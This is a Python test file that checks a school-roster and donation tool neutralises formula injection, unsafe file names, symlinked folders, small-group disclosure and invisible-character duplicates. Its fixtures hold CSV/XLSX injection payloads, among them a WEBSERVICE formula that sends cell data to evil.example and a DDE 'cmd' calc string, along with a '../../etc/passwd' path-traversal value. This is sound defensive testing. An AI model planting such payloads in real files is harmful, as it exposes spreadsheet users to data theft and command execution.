"""Outputs a hostile or careless roster cannot turn against the learners (issue 14, output half).

Text that looks like a formula is written as text (XLSX) or neutralised (CSV); characters XML
cannot hold never stop a workbook; the delivery folder is never a symbolic link and is private;
invisible characters do not make one child two learners; shareable tables describe no group of
fewer than K learners; file names made from school names are safe on Windows.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from sim.ledger.donations import DELIVERY_KIND, DONATION_KIND, from_columns, read_records, write_records
from sim.ledger.store import Ledger
from sim.read.errors import InputError
from sim.read.scenario import load_scenario
from sim.read.tables import read_areas, read_students
from sim.results.cells import FORMULA_START, csv_text, safe_text
from sim.roster import read_roster, roster_file_bytes, synthetic_roster
from sim.roster.assign import assign
from sim.roster.disclosure import K, OTHER
from sim.roster.export import WINDOWS_RESERVED, safe_file_name
from sim.roster.pseudonym import PseudonymKey
from sim.roster.xlsx import write_table
from tests.conftest import BASELINE, ROOT
from tests.roster_cases import AREAS_FRAME, learner, write_roster

LONGAN = ROOT / "data" / "longan"
KEY = PseudonymKey(b"a fixed test key for the hardening tests", "test")
FORMULAS = ['=WEBSERVICE("http://evil.example/?"&C6)', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "=HYPERLINK(\"http://evil.example\",\"bấm vào đây\")", "=1+1"]
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_cells_xlsx(path: Path) -> list[str]:
    """Cells a spreadsheet would run: formula cells, or text starting with '=' stored as a formula."""
    book = load_workbook(path)
    found = [f"{path.name}!{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
             for cell in row if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")
                                                          and cell.data_type != "s")]
    book.close()
    return found


def unescaped_cells_csv(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [f"{path.name}: {cell!r}" for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """A 3,000-learner synthetic roster with formula-like, path-like and reserved-name text, assigned."""
    folder = tmp_path_factory.mktemp("hostile")
    areas = read_areas(LONGAN / "areas.csv")
    roster = synthetic_roster(areas, read_students(LONGAN / "students.csv", areas), learners=3000, seed=14)
    schools = list(dict.fromkeys(roster["school"]))
    renamed = {schools[0]: FORMULAS[4], schools[1]: "CON", schools[2]: "../../etc/passwd", schools[3]: "nul.txt ",
               schools[4]: "=cmd|' /C calc'!A0"}
    roster["school"] = roster["school"].replace(renamed)
    for k, formula in enumerate(FORMULAS):
        rows = roster.index[k::len(FORMULAS)]
        roster.loc[rows[:40], "full_name"] = formula
        roster.loc[rows[40:80], "notes"] = formula + "\vdòng hai"  # Word's line break: a vertical tab
        roster.loc[rows[80:120], "phone"] = formula
        roster.loc[rows[120:160], "certificate_no"] = formula
    source = folder / "roster.csv"
    source.write_bytes(roster_file_bytes(roster))
    checked = read_roster(source, areas)
    run = assign(load_scenario(BASELINE), checked, KEY, skip_invalid=True, compare=False)
    out = folder / "out"
    run.write(out)
    return run, out


def test_no_output_of_a_hostile_roster_holds_a_formula(hostile_run):
    run, out = hostile_run
    workbooks = sorted(out.rglob("*.xlsx"))
    tables = sorted(out.rglob("*.csv"))
    assert len(workbooks) > 20 and len(tables) > 20
    assert [c for p in workbooks for c in formula_cells_xlsx(p)] == []
    assert [c for p in tables for c in unescaped_cells_csv(p)] == []
    # the text is there, as text: in a delivery list and, quoted, in its CSV twin
    served = run.learners[run.learners["served"]]
    assert served["full_name"].isin(FORMULAS).any()
    every_cell = [c.value for p in (out / "delivery" / "by_district").glob("*.xlsx")
                  for row in load_workbook(p).active.iter_rows() for c in row]
    assert set(FORMULAS) & set(every_cell)
    assert any("'=" in p.read_text(encoding="utf-8-sig") for p in (out / "delivery" / "by_district").glob("*.csv"))
    assert not any("\v" in str(v) for v in every_cell)


def test_file_names_from_school_names_are_safe(hostile_run):
    _, out = hostile_run
    names = [p.name for p in (out / "delivery").rglob("*")]
    assert all(p.resolve().is_relative_to((out / "delivery").resolve()) for p in (out / "delivery").rglob("*"))
    stems = {n.split(".")[0].strip(" ").upper() for n in names}
    assert not stems & WINDOWS_RESERVED
    assert {"_CON.xlsx", "_nul.txt.xlsx", "_.._etc_passwd.xlsx"} <= set(names)
    assert not [n for n in names if n != n.strip(" .") or re.search(r'[<>:"/\\|?*\x00-\x1f]', n)]


@pytest.mark.parametrize("name, safe", [("CON", "_CON"), ("con.txt", "_con.txt"), ("Nul", "_Nul"), ("COM1", "_COM1"),
                                        ("lpt9.csv", "_lpt9.csv"), ("AUX. . ", "_AUX"), ("PRN ", "_PRN"),
                                        ("COM10", "COM10"), ("Trường CON", "Trường CON"), ("..", "_"),
                                        ("a\u200bb", "a_b"), ("x" * 300, "x" * 120)])
def test_safe_file_name(name, safe):
    assert safe_file_name(name) == safe


def test_ledger_exports_hold_no_formula_and_read_back_the_same(tmp_path):
    db = tmp_path / "ledger.sqlite"
    donations = [from_columns(DONATION_KIND, donation_id=f"D{k}", date="24/11/2026", donor=f, kind="cash",
                              amount_vnd=1_000_000, status="received") for k, f in enumerate(FORMULAS)]
    deliveries = [from_columns(DELIVERY_KIND, delivery_id=f"G{k}", date="05/12/2026", district="Thủ Thừa",
                               device="laptop", quantity=2, note=f + "\vký nhận") for k, f in enumerate(FORMULAS)]
    with Ledger(db, create=True) as ledger:
        ledger.record(donations)
        ledger.record(deliveries)
    for kind, records in (("donations", donations), ("deliveries", deliveries)):
        for suffix in ("csv", "xlsx"):
            path = tmp_path / f"{kind}.{suffix}"
            done = subprocess.run([sys.executable, "-m", "sim", kind, "export", str(path), "--db", str(db)],
                                  capture_output=True, text=True, cwd=ROOT)
            assert done.returncode == 0, done.stderr
            assert (formula_cells_xlsx(path) if suffix == "xlsx" else unescaped_cells_csv(path)) == []
            back = read_records(path, DONATION_KIND if kind == "donations" else DELIVERY_KIND)
            expected = [r.record for r in records]
            if kind == "deliveries" and suffix == "xlsx":  # the vertical tab XML cannot hold is a space
                expected = [r.__class__(**{**r.__dict__, "note": r.note.replace("\v", " ")}) for r in expected]
            got = [r.record for r in back]
            if kind == "deliveries" and suffix == "csv":
                assert [g.note for g in got] == [e.note for e in expected]
            assert [g.donor if kind == "donations" else g.note.replace("\v", " ") for g in got] == \
                   [e.donor if kind == "donations" else e.note.replace("\v", " ") for e in expected]


def test_one_writer_for_cells():
    assert [safe_text(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert safe_text("-5") == "-5" and safe_text("Đức Huệ") == "Đức Huệ" and safe_text(3) == 3
    assert unescaped_cells_csv_text(csv_text(pd.DataFrame({"=a": FORMULAS, "n": range(len(FORMULAS))}))) == []
    sheet = Workbook().active
    write_table(sheet, 1, ["=x"], [[f + "\v\x01"] for f in FORMULAS], {})
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)
    assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", c.value) for row in sheet.iter_rows() for c in row)


def unescaped_cells_csv_text(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row
            if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


# ---------------------------------------------------------------- small groups in shareable tables

def test_the_shareable_waiting_list_describes_no_group_below_k(hostile_run):
    run, out = hostile_run
    table = pd.read_csv(out / "waiting_list.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert len(table) > 100
    described = ["district", "school", "grade", "status", "band", "without_internet"]
    sizes = table.groupby(described)["rank"].transform("size")
    alone = table[(sizes < K) & (table[described] != OTHER).any(axis=1)]
    assert alone.empty, alone.head()
    # orphans are on it, but never as one orphan of one school and grade
    raw = run.learners[~run.learners["served"]]
    assert (raw["status"] == "covid_orphan").sum() >= 1
    assert list(table.columns) == ["rank", "pseudonym", *described[:3], "status", "band", "without_internet"]


def test_the_shareable_school_tables_show_no_count_below_k(hostile_run):
    _, out = hostile_run
    table = pd.read_csv(out / "schools.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    counts = table.drop(columns=["district", "school"])
    small = counts.map(lambda v: v.isdigit() and 0 < int(v) < K)
    assert not small.any().any()
    assert (counts == f"<{K}").any().any()  # there were small counts to hide
    book = load_workbook(out / "schools.xlsx").active
    numbers = [c.value for row in book.iter_rows(min_row=4) for c in row[2:] if isinstance(c.value, int)]
    assert numbers and not [n for n in numbers if 0 < n < K]


# ---------------------------------------------------------------- the delivery folder

@pytest.fixture(scope="module")
def small_run(tmp_path_factory):
    from tests.roster_cases import write_scenario

    folder = tmp_path_factory.mktemp("small")
    scenario = write_scenario(folder, budget_vnd=3_000_000)
    roster = read_roster(write_roster(folder / "roster.csv", [learner(f"80{k:04d}") for k in range(8)]), AREAS_FRAME)
    return assign(scenario, roster, KEY, compare=False)


def test_a_symlinked_delivery_folder_is_refused_and_nothing_outside_is_touched(tmp_path, small_run):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "README.txt").write_text("not ours")
    (elsewhere / "precious.txt").write_text("keep me")
    out = tmp_path / "out"
    out.mkdir()
    (out / "delivery").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(InputError, match="symbolic link"):
        small_run.write(out)
    assert sorted(p.name for p in elsewhere.iterdir()) == ["README.txt", "precious.txt"]


def test_a_symlink_inside_the_delivery_folder_is_refused(tmp_path, small_run):
    out = tmp_path / "out"
    small_run.write(out)
    target = tmp_path / "target.txt"
    target.write_text("keep me")
    (out / "delivery" / "by_district").rename(tmp_path / "moved")
    (out / "delivery" / "by_district").symlink_to(tmp_path / "moved", target_is_directory=True)
    with pytest.raises(InputError, match="symbolic link"):
        small_run.write(out)
    assert (tmp_path / "moved").is_dir() and any((tmp_path / "moved").iterdir())


def test_the_delivery_folder_is_private_even_if_it_was_not(tmp_path, small_run):
    out = tmp_path / "out"
    (out / "delivery").mkdir(parents=True, mode=0o777)
    os.chmod(out / "delivery", 0o777)
    small_run.write(out)
    assert stat.S_IMODE((out / "delivery").stat().st_mode) == 0o700
    for path in (out / "delivery").rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path


# ---------------------------------------------------------------- one child, one learner

@pytest.mark.parametrize("invisible", ["\u200b", "\u00ad", "\ufeff", "\u200e", "\u2060"])
def test_invisible_characters_do_not_make_one_child_two_learners(tmp_path, invisible):
    rows = [learner("801001", full_name="Nguyễn Văn An"),
            learner(f"801{invisible}001", full_name=f"Nguy{invisible}ễn Văn\u00a0An"),  # same id, marked
            learner("801002", full_name="Trần Thị Bé", school="Trường THPT An Bình"),
            learner("901002", full_name=f"Trần Thị{invisible} Bé ", school="Trường THPT  An Bình")]  # same child, new id
    roster = read_roster(write_roster(tmp_path / "roster.csv", rows), AREAS_FRAME)
    assert roster.counts() == {"eligible": 0, "not_eligible": 0, "held_for_review": 4, "invalid": 0}
    assert set(roster.learners["full_name"]) == {"Nguyễn Văn An", "Trần Thị Bé"}
